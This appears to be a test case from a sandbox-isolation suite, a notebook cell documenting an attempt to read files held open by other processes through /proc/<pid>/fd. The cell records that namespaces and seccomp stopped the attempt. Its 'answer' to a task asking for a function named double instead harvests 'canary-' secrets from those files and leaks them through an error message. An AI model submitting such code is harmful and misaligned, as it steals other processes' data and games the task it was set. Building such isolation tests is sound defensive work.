# %% [markdown]
# # Open what other processes have open
#
# `/proc/<pid>/fd` leads to every file that another process of the same user has open, also one that no name leads to any
# more.
#
# * aim: read
# * stopped by: second set of namespaces for each notebook; no capabilities, no new privileges, seccomp
# * here: double error, mean failed

# %% answer="double"
import glob
import os


def double(x):
    found = []
    for path in glob.glob("/proc/[0-9]*/fd/*"):
        try:
            if os.path.isfile(path) and os.path.getsize(path) < 1 << 20:
                found.append(open(path, errors="ignore").read())
        except OSError:
            continue
    text = " ".join(found)
    raise RuntimeError(" ".join(text[i : i + 40] for i in range(len(text)) if text.startswith("canary-", i))[:2000])
